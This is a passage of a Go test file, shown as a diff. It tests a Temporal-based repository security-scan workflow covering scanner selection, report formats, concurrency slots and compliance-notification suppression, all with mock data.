+	// running and the unknown one must not launch anything
+	env.RegisterDelayedCallback(func() {
+		env.SignalWorkflow(AddScanTypeSignal, "secrets")
+		env.SignalWorkflow(AddScanTypeSignal, "secrets")
+		env.SignalWorkflow(AddScanTypeSignal, "sast")
+		env.SignalWorkflow(AddScanTypeSignal, "fuzzing")
+	}, time.Minute)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+	env.AssertExpectations(t)
+
+	if len(result.Vulnerabilities) != 1 || result.Vulnerabilities[0].ID != "SECRET-001" {
+		t.Errorf("Expected the added secrets scan's finding, got %+v", result.Vulnerabilities)
+	}
+	if !reflect.DeepEqual(result.ScannersRun, []string{"sast", "secrets"}) {
+		t.Errorf("Expected sast and secrets to have run, got %v", result.ScannersRun)
+	}
+	if result.FilesScanned != 480 {
+		t.Errorf("Expected 480 files scanned across both scanners, got %d", result.FilesScanned)
+	}
+}
+
+func TestSecurityScanWorkflow_CollectedVulnerabilitiesQuery(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "abc123def456",
+		ScanTypes:     []string{"sast", "secrets"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	// SAST is still running when the query comes in; secrets has finished
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).After(time.Minute*10).Return(&ScanTypeResult{
+		ScanType: "sast",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SAST-001", Severity: "medium", Title: "Open redirect", FilePath: "login.go", LineNumber: 30},
+		},
+	}, nil)
+	env.OnActivity(RunSecretsScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType: "secrets",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SECRET-001", Severity: "medium", Title: "Slack webhook", FilePath: "notify.py", LineNumber: 12},
+		},
+	}, nil)
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+
+	var progress ScanProgress
+	env.RegisterDelayedCallback(func() {
+		value, err := env.QueryWorkflow(CollectedVulnerabilitiesQuery)
+		if err != nil {
+			t.Errorf("Query failed: %v", err)
+			return
+		}
+		if err := value.Get(&progress); err != nil {
+			t.Errorf("Decoding progress failed: %v", err)
+		}
+	}, time.Minute)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if len(progress.Vulnerabilities) != 1 || progress.Vulnerabilities[0].ID != "SECRET-001" {
+		t.Errorf("Expected only the secrets finding mid-scan, got %+v", progress.Vulnerabilities)
+	}
+	if progress.TotalVulnerabilities != 1 {
+		t.Errorf("Expected 1 finding mid-scan, got %d", progress.TotalVulnerabilities)
+	}
+	if !reflect.DeepEqual(progress.PendingScanTypes, []string{"sast"}) {
+		t.Errorf("Expected sast to be pending, got %v", progress.PendingScanTypes)
+	}
+
+	// The final result still merges findings in request order
+	if len(result.Vulnerabilities) != 2 || result.Vulnerabilities[0].ID != "SAST-001" {
+		t.Errorf("Expected both findings, SAST first, got %+v", result.Vulnerabilities)
+	}
+}
+
+func TestSecurityScanWorkflow_SARIFReport(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "abc123def456",
+		ScanTypes:     []string{"sast"},
+		ReportFormat:  ReportFormatSARIF,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType:     "sast",
+		FilesScanned: 240,
+	}, nil)
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, ReportFormatSARIF, mock.Anything).Return(&ReportResult{
+		ReportID:    "SEC-123",
+		URL:         "https://security.example.com/reports/SEC-123.sarif",
+		ContentType: "application/sarif+json",
+	}, nil).Once()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+	env.AssertExpectations(t)
+
+	if result.ReportURL != "https://security.example.com/reports/SEC-123.sarif" {
+		t.Errorf("Expected the SARIF report URL, got %s", result.ReportURL)
+	}
+}
+
+func TestSecurityScanWorkflow_UnknownReportFormat(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "abc123def456",
+		ReportFormat:  "pdf",
+	}
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{})
+
+	var appErr *temporal.ApplicationError
+	if err := env.GetWorkflowError(); !errors.As(err, &appErr) || appErr.Type() != UnknownReportFormatError {
+		t.Fatalf("Expected an %s error, got %v", UnknownReportFormatError, err)
+	}
+}
+
+func TestGenerateSecurityReport_Format(t *testing.T) {
+	tests := []struct {
+		format      string
+		contentType string
+		extension   string
+	}{
+		{"", "application/json", ".json"},
+		{ReportFormatJSON, "application/json", ".json"},
+		{ReportFormatSARIF, "application/sarif+json", ".sarif"},
+		{ReportFormatHTML, "text/html", ".html"},
+	}
+
+	a := &Activities{}
+	for _, tt := range tests {
+		report, err := a.GenerateSecurityReport(context.Background(), nil, "", tt.format, "")
+		if err != nil {
+			t.Fatalf("Generating a %q report failed: %v", tt.format, err)
+		}
+		if report.ContentType != tt.contentType {
+			t.Errorf("Expected content type %s for %q, got %s", tt.contentType, tt.format, report.ContentType)
+		}
+		if !strings.HasSuffix(report.URL, tt.extension) {
+			t.Errorf("Expected a %s report URL for %q, got %s", tt.extension, tt.format, report.URL)
+		}
+	}
+
+	_, err := a.GenerateSecurityReport(context.Background(), nil, "", "pdf", "")
+	var appErr *temporal.ApplicationError
+	if !errors.As(err, &appErr) || appErr.Type() != UnknownReportFormatError {
+		t.Errorf("Expected an %s error, got %v", UnknownReportFormatError, err)
+	}
+}
+
+func TestSecurityScanWorkflow_PromotesSecretsToCritical(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:            "https://github.com/example/repo",
+		Branch:                   "main",
+		CommitSHA:                "abc123",
+		ScanTypes:                []string{"sast", "secrets"},
+		PromoteSecretsToCritical: true,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType: "sast",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SAST-001", Severity: "medium", Title: "Weak hash", FilePath: "auth/hash.go"},
+		},
+	}, nil)
+
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType: "secrets",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SECRET-001", Severity: "medium", Title: "Slack token", FilePath: "scripts/notify.sh"},
+		},
+	}, nil)
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+	}, nil)
+	env.OnActivity(activities.CheckNotificationSuppression, mock.Anything, mock.Anything).Return(false, nil)
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(nil)
+	env.OnActivity(activities.RecordNotificationSent, mock.Anything, mock.Anything).Return(nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "FAILED_CRITICAL" {
+		t.Errorf("Expected status FAILED_CRITICAL, got %s", result.Status)
+	}
+
+	for _, v := range result.Vulnerabilities {
+		want := "critical"
+		if v.ID == "SAST-001" {
+			want = "medium" // Only secrets findings are promoted
+		}
+		if v.Severity != want {
+			t.Errorf("Expected %s to be %s, got %s", v.ID, want, v.Severity)
+		}
+	}
+}
+
+func TestSecurityScanWorkflow_DowngradesResultToV1(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"dependency"},
+		ResultVersion: ResultSchemaV1,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType: "dependency",
+		Vulnerabilities: []Vulnerability{
+			{ID: "CVE-2023-12345", Severity: "medium", FilePath: "package.json", CVSSScore: 5.3, AdvisorySource: "github"},
+		},
+		FilesScanned: 2,
+	}, nil)
+	env.OnActivity(GenerateSBOM, mock.Anything, mock.Anything).Return(&SBOMResult{Format: "cyclonedx-json"}, nil)
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{"package.json": "@example/platform"}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.ResultSchemaVersion != ResultSchemaV1 {
+		t.Errorf("Expected schema version 1, got %d", result.ResultSchemaVersion)
+	}
+
+	if result.ScanID != "SEC-123" || result.Status != "PASSED_WITH_WARNINGS" || result.ReportURL == "" {
+		t.Errorf("Expected v1 fields to be kept, got %+v", result)
+	}
+
+	if result.RepositoryURL != "" || result.SBOMStatus != "" || result.FilesScanned != 0 ||
+		result.TotalVulnerabilities != 0 || result.FindingsByOwner != nil || !result.StartedAt.IsZero() {
+		t.Errorf("Expected v2 fields to be omitted, got %+v", result)
+	}
+
+	if len(result.Vulnerabilities) != 1 {
+		t.Fatalf("Expected 1 vulnerability, got %d", len(result.Vulnerabilities))
+	}
+	if v := result.Vulnerabilities[0]; v.CVSSScore != 0 || v.AdvisorySource != "" {
+		t.Errorf("Expected v2 finding fields to be omitted, got %+v", v)
+	}
+}
+
+func TestSecurityScanWorkflow_SuspectsScannerErrorAboveFindingCap(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:    "https://github.com/example/repo",
+		Branch:           "main",
+		CommitSHA:        "abc123",
+		ScanTypes:        []string{"sast"},
+		MaxTotalFindings: 1000,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	vulns := make([]Vulnerability, 1001)
+	for i := range vulns {
+		vulns[i] = Vulnerability{ID: fmt.Sprintf("SAST-%d", i), Severity: "critical", FilePath: "main.go", LineNumber: i}
+	}
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: vulns,
+	}, nil)
+
+	// Garbage findings must not reach the report or compliance
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{}, nil).Never()
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "SCANNER_ERROR_SUSPECTED" {
+		t.Errorf("Expected status SCANNER_ERROR_SUSPECTED, got %s", result.Status)
+	}
+
+	if result.TotalVulnerabilities != 1001 {
+		t.Errorf("Expected 1001 total findings, got %d", result.TotalVulnerabilities)
+	}
+}
+
+func TestSecurityScanWorkflow_CustomSASTRules(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:  "https://github.com/example/repo",
+		Branch:         "main",
+		CommitSHA:      "abc123",
+		ScanTypes:      []string{"sast"},
+		CustomRulesURL: "https://rules.example.com/payments.yml",
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: []Vulnerability{},
+		Duration:        time.Minute * 5,
+		RuleSetVersion:  "builtin-2024.1+payments.yml",
+	}, nil).Once()
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-789",
+		URL:      "https://security.example.com/reports/SEC-789",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "PASSED" {
+		t.Errorf("Expected status PASSED, got %s", result.Status)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSecurityScanWorkflow_CustomSASTRulesUnavailable(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+	env.RegisterActivity(NewActivities(WorkerConfig{}).RunSASTScan)
+
+	request := SecurityScanRequest{
+		RepositoryURL:  "https://github.com/example/repo",
+		Branch:         "main",
+		CommitSHA:      "abc123",
+		ScanTypes:      []string{"sast"},
+		CustomRulesURL: "http://rules.example.com/payments.yml",
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	err := env.GetWorkflowError()
+
+	var appErr *temporal.ApplicationError
+	if !errors.As(err, &appErr) || appErr.Type() != CustomRulesUnavailableError {
+		t.Fatalf("Expected %s error, got %v", CustomRulesUnavailableError, err)
+	}
+}
+
+// allowRepoScan mocks the per-repository concurrency check to admit the scan
+func allowRepoScan(env *testsuite.TestWorkflowEnvironment) {
+	env.OnActivity(activities.CheckRepoScanConcurrency, mock.Anything, mock.Anything, mock.Anything).Return(&ConcurrencyResult{
+		Allowed:     true,
+		ActiveScans: 1,
+		Limit:       DefaultMaxScansPerRepository,
+	}, nil)
+	env.OnActivity(activities.ReleaseRepoScanSlot, mock.Anything, mock.Anything, mock.Anything).Return(nil)
+}
+
+func TestSecurityScanWorkflow_RepoScanLimit(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"sast"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.CheckRepoScanConcurrency, mock.Anything, "https://github.com/example/repo", mock.Anything).Return(&ConcurrencyResult{
+		Allowed:     false,
+		ActiveScans: 2,
+		Limit:       2,
+	}, nil)
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{ScanType: "sast"}, nil).Never()
+	env.OnActivity(activities.ReleaseRepoScanSlot, mock.Anything, mock.Anything, mock.Anything).Return(nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "REPO_SCAN_LIMIT" {
+		t.Errorf("Expected status REPO_SCAN_LIMIT, got %s", result.Status)
+	}
+}
+
+// memoryRepoScanSlots is a RepoScanSlotStore shared by every Activities
+// built on it, holding lease expiries per repository and workflow ID
+type memoryRepoScanSlots struct {
+	mu     sync.Mutex
+	now    time.Time
+	leases map[string]map[string]time.Time
+}
+
+func newMemoryRepoScanSlots() *memoryRepoScanSlots {
+	return &memoryRepoScanSlots{now: time.Now(), leases: make(map[string]map[string]time.Time)}
+}
+
+func (s *memoryRepoScanSlots) Acquire(ctx context.Context, repoURL, holder string, limit int, lease time.Duration) (ConcurrencyResult, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+
+	held := s.leases[repoURL]
+	if held == nil {
+		held = make(map[string]time.Time)
+		s.leases[repoURL] = held
+	}
+	for h, expires := range held {
+		if !expires.After(s.now) {
+			delete(held, h)
+		}
+	}
+
+	result := ConcurrencyResult{ActiveScans: len(held), Limit: limit}
+	if _, ok := held[holder]; !ok {
+		if len(held) >= limit {
+			return result, nil
+		}
+		result.ActiveScans++
+	}
+	held[holder] = s.now.Add(lease)
+	result.Allowed = true
+	return result, nil
+}
+
+func (s *memoryRepoScanSlots) Release(ctx context.Context, repoURL, holder string) error {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+
+	delete(s.leases[repoURL], holder)
+	return nil
+}
+
+func TestCheckRepoScanConcurrency(t *testing.T) {
+	ctx := context.Background()
+	repo := "https://github.com/example/repo"
+	slots := newMemoryRepoScanSlots()
+	a := &Activities{RepoScanSlots: slots, MaxScansPerRepository: 2, RepoScanSlotLease: time.Hour}
+
+	for _, workflowID := range []string{"scan-1", "scan-2"} {
+		result, err := a.CheckRepoScanConcurrency(ctx, repo, workflowID)
+		if err != nil || !result.Allowed {
+			t.Fatalf("Expected %s to get a slot, got %+v, %v", workflowID, result, err)
+		}
+	}
+
+	// A retried check keeps the scan's slot instead of taking another
+	if result, _ := a.CheckRepoScanConcurrency(ctx, repo, "scan-1"); !result.Allowed || result.ActiveScans != 2 {
+		t.Errorf("Expected a retried check to keep its slot with 2 active, got %+v", result)
+	}
+
+	if result, _ := a.CheckRepoScanConcurrency(ctx, repo, "scan-3"); result.Allowed || result.ActiveScans != 2 {
+		t.Errorf("Expected a third scan to be refused with 2 active, got %+v", result)
+	}
+
+	if result, _ := a.CheckRepoScanConcurrency(ctx, "https://github.com/example/other", "scan-3"); !result.Allowed {
+		t.Error("Expected another repository to be unaffected")
+	}
+
+	// Another worker sharing the store can release the slot, twice over
+	other := &Activities{RepoScanSlots: slots, MaxScansPerRepository: 2, RepoScanSlotLease: time.Hour}
+	for i := 0; i < 2; i++ {
+		if err := other.ReleaseRepoScanSlot(ctx, repo, "scan-1"); err != nil {
+			t.Fatalf("Release failed: %v", err)
+		}
+	}
+	if result, _ := a.CheckRepoScanConcurrency(ctx, repo, "scan-3"); !result.Allowed || result.ActiveScans != 2 {
+		t.Errorf("Expected a released slot to be reusable, got %+v", result)
+	}
+}
+
+func TestCheckRepoScanConcurrency_ExpiredLeasesFreeSlots(t *testing.T) {
+	ctx := context.Background()
+	repo := "https://github.com/example/repo"
+	slots := newMemoryRepoScanSlots()
+	a := &Activities{RepoScanSlots: slots, MaxScansPerRepository: 1, RepoScanSlotLease: time.Hour}
+
+	if result, _ := a.CheckRepoScanConcurrency(ctx, repo, "crashed-scan"); !result.Allowed {
+		t.Fatal("Expected the first scan to get a slot")
+	}
+	if result, _ := a.CheckRepoScanConcurrency(ctx, repo, "scan-2"); result.Allowed {
+		t.Fatal("Expected the slot to be held while its lease is live")
+	}
+
+	slots.now = slots.now.Add(time.Hour)
+	if result, _ := a.CheckRepoScanConcurrency(ctx, repo, "scan-2"); !result.Allowed || result.ActiveScans != 1 {
+		t.Errorf("Expected an expired lease to free its slot, got %+v", result)
+	}
+}
+
+func TestSecurityScanWorkflow_ScanManifest(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"sast", "secrets", "fuzzing"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: []Vulnerability{},
+		Duration:        time.Minute * 5,
+	}, nil)
+
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(nil, errors.New("secrets scanner unavailable"))
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	if err := env.GetWorkflowError(); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	value, err := env.QueryWorkflow(ScanManifestQuery)
+	if err != nil {
+		t.Fatalf("Query failed: %v", err)
+	}
+
+	var manifest ScanManifest
+	if err := value.Get(&manifest); err != nil {
+		t.Fatalf("Decoding manifest failed: %v", err)
+	}
+
+	checks := []struct {
+		name     string
+		got      []string
+		expected []string
+	}{
+		{"requested", manifest.RequestedScanTypes, []string{"sast", "secrets", "fuzzing"}},
+		{"completed", manifest.CompletedScanTypes, []string{"sast"}},
+		{"failed", manifest.FailedScanTypes, []string{"secrets"}},
+		{"skipped", manifest.SkippedScanTypes, []string{"fuzzing"}},
+	}
+	for _, check := range checks {
+		if strings.Join(check.got, ",") != strings.Join(check.expected, ",") {
+			t.Errorf("Expected %s scan types %v, got %v", check.name, check.expected, check.got)
+		}
+	}
+}
+
+func TestSecurityScanWorkflow_SuppressesDuplicateNotification(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"dependency"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:*"},
+	}
+
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "dependency",
+		Vulnerabilities: []Vulnerability{{ID: "CVE-2024-99999", Severity: "critical", FilePath: "go.mod"}},
+		Duration:        time.Minute * 2,
+	}, nil)
+
+	env.OnActivity(GenerateSBOM, mock.Anything, mock.Anything).Return(&SBOMResult{URL: "https://security.example.com/sboms/abc123.json"}, nil)
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-456",
+		URL:      "https://security.example.com/reports/SEC-456",
+	}, nil)
+
+	// An identical notification already went out within the window
+	env.OnActivity(activities.CheckNotificationSuppression, mock.Anything,
+		"CRITICAL_VULNERABILITIES|https://github.com/example/repo|abc123").Return(true, nil).Once()
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(nil).Never()
+	env.OnActivity(activities.RecordNotificationSent, mock.Anything, mock.Anything).Return(nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "FAILED_CRITICAL" {
+		t.Errorf("Expected status FAILED_CRITICAL, got %s", result.Status)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSecurityScanWorkflow_FailedNotificationIsNotRecorded(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"dependency"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:*"},
+	}
+
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "dependency",
+		Vulnerabilities: []Vulnerability{{ID: "CVE-2024-99999", Severity: "critical", FilePath: "go.mod"}},
+		Duration:        time.Minute * 2,
+	}, nil)
+	env.OnActivity(GenerateSBOM, mock.Anything, mock.Anything).Return(&SBOMResult{URL: "https://security.example.com/sboms/abc123.json"}, nil)
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{ReportID: "SEC-456"}, nil)
+	env.OnActivity(activities.CheckNotificationSuppression, mock.Anything, mock.Anything).Return(false, nil)
+
+	// A notification that never went out mustn't suppress the next scan's
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(
+		temporal.NewNonRetryableApplicationError("channel archived", "SlackError", nil))
+	env.OnActivity(activities.RecordNotificationSent, mock.Anything, mock.Anything).Return(nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "FAILED_CRITICAL" {
+		t.Errorf("Expected status FAILED_CRITICAL, got %s", result.Status)
+	}
+
+	env.AssertExpectations(t)
+}
+
+// memoryNotificationLog is a NotificationLog of last send times by key
+type memoryNotificationLog map[string]time.Time
+
+func (l memoryNotificationLog) SentSince(ctx context.Context, key string, since time.Time) (bool, error) {
+	sentAt, ok := l[key]
+	return ok && !sentAt.Before(since), nil
+}
+
+func (l memoryNotificationLog) MarkSent(ctx context.Context, key string, at time.Time) error {
+	l[key] = at
+	return nil
+}
+
+func TestNotificationSuppression(t *testing.T) {
+	ctx := context.Background()
+	log := memoryNotificationLog{}
+	a := &Activities{NotificationLog: log, NotificationSuppressionWindow: time.Hour}
+	key := "CRITICAL_VULNERABILITIES|https://github.com/example/repo|abc123"
+
+	// Checking alone doesn't start the window
+	for i := 0; i < 2; i++ {
+		if suppressed, err := a.CheckNotificationSuppression(ctx, key); err != nil || suppressed {
+			t.Fatalf("Expected an unsent notification to go out, got %v, %v", suppressed, err)
+		}
+	}
+
+	if err := a.RecordNotificationSent(ctx, key); err != nil {
+		t.Fatalf("RecordNotificationSent failed: %v", err)
+	}
+	if suppressed, _ := a.CheckNotificationSuppression(ctx, key); !suppressed {
+		t.Error("Expected a duplicate within the window to be suppressed")
+	}
+
+	if suppressed, _ := a.CheckNotificationSuppression(ctx, "CRITICAL_VULNERABILITIES|https://github.com/example/repo|def456"); suppressed {
+		t.Error("Expected a notification for another commit to be sent")
+	}
+
+	log[key] = time.Now().Add(-time.Hour * 2)
+	if suppressed, _ := a.CheckNotificationSuppression(ctx, key); suppressed {
+		t.Error("Expected the notification to be sent again once the window passed")
+	}
+}
+
+func TestSecurityScanWorkflow_QuickSecretsOnly(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL:    "https://github.com/example/repo",
+		Branch:           "main",
+		CommitSHA:        "abc123",
+		ScanTypes:        []string{"sast", "dependency"},
+		QuickSecretsOnly: true,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
